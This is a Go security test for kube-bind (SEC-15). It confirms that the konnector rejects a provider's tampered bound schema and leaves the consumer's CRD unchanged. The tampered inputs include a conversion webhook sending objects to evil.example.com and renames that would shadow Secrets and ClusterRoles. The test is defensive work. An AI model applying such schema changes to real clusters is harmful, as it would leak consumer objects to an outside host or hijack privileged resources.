// SPDX-License-Identifier: Apache-2.0

package faults

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	kubebindv1alpha2 "kube-bind.io/kube-bind/apis/kubebind/v1alpha2"
	"kube-bind.io/kube-bind/test/expect"
)

// SEC-15: a provider writes into the schema that the consumer has bound what would let it into the consumer: a webhook that
// the consumer's API server would send every object to, and the name of another resource. The konnector refuses it, says so, and
// the CRD stays as it is.
func TestSEC15HostileSchemaIsRefused(t *testing.T) {
	t.Parallel()
	p, place := ownPair(t)
	// The backend would mend the schema: this provider has another one.
	if err := p.Backend().Stop(); err != nil {
		t.Fatal(err)
	}
	key := client.ObjectKey{Namespace: place.Namespace, Name: "cowboys.wildwest.dev"}
	honest := &kubebindv1alpha2.BoundSchema{}
	if err := p.Provider.Client.Get(t.Context(), key, honest); err != nil {
		t.Fatal(err)
	}
	offer := func(change func(*kubebindv1alpha2.BoundSchema)) {
		t.Helper()
		expect.Eventually(t, "changing the schema", func(ctx context.Context) error {
			have := &kubebindv1alpha2.BoundSchema{}
			if err := p.Provider.Client.Get(ctx, key, have); err != nil {
				return err
			}
			have.Spec = *honest.Spec.DeepCopy()
			change(have)
			return p.Provider.Client.Update(ctx, have)
		})
	}
	crd := func(ctx context.Context) (*apiextensionsv1.CustomResourceDefinition, error) {
		have := &apiextensionsv1.CustomResourceDefinition{}
		return have, p.Consumer.Client.Get(ctx, client.ObjectKey{Name: "cowboys.wildwest.dev"}, have)
	}
	before, err := crd(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for name, tc := range map[string]struct {
		change func(*kubebindv1alpha2.BoundSchema)
		says   string
	}{
		"a webhook": {func(b *kubebindv1alpha2.BoundSchema) {
			b.Spec.Conversion = &kubebindv1alpha2.BoundSchemaConversion{Strategy: apiextensionsv1.WebhookConverter, Webhook: &kubebindv1alpha2.BoundSchemaWebhook{
				ClientConfig:             &kubebindv1alpha2.BoundSchemaWebhookClientConfig{URL: "https://evil.example.com/convert"},
				ConversionReviewVersions: []string{"v1"},
			}}
		}, "conversion strategy"},
		"Secrets": {func(b *kubebindv1alpha2.BoundSchema) {
			b.Spec.Group, b.Spec.Names.Plural, b.Spec.Names.Singular, b.Spec.Names.Kind, b.Spec.Names.ListKind = "", "secrets", "secret", "Secret", "SecretList"
		}, "secrets"},
		"rights": {func(b *kubebindv1alpha2.BoundSchema) {
			b.Spec.Group, b.Spec.Names.Plural = "rbac.authorization.k8s.io", "clusterroles"
		}, "clusterroles.rbac.authorization.k8s.io"},
	} {
		t.Run(name, func(t *testing.T) {
			offer(tc.change)
			b := waitBinding(t, p, "cowboys", kubebindv1alpha2.ConditionSchemaInSync, metav1.ConditionFalse, kubebindv1alpha2.ReasonBoundSchemasNotValid)
			if said := says(b, kubebindv1alpha2.ConditionSchemaInSync); !strings.Contains(said, tc.says) {
				t.Errorf("the binding says %q", said)
			}
			expect.Never(t, "the CRD must stay as it is", func(ctx context.Context) error {
				now, err := crd(ctx)
				if err == nil && now.Generation != before.Generation {
					err = fmt.Errorf("it is %+v", now.Spec)
				}
				for _, foreign := range []string{"secrets.core", "clusterroles.rbac.authorization.k8s.io"} {
					if made := p.Consumer.Client.Get(ctx, client.ObjectKey{Name: foreign}, &apiextensionsv1.CustomResourceDefinition{}); !apierrors.IsNotFound(made) {
						err = errors.Join(err, fmt.Errorf("there is a CRD %s: %w", foreign, made))
					}
				}
				return err
			})
			offer(func(*kubebindv1alpha2.BoundSchema) {})
			waitBinding(t, p, "cowboys", kubebindv1alpha2.ConditionReady, metav1.ConditionTrue, "")
		})
	}
}
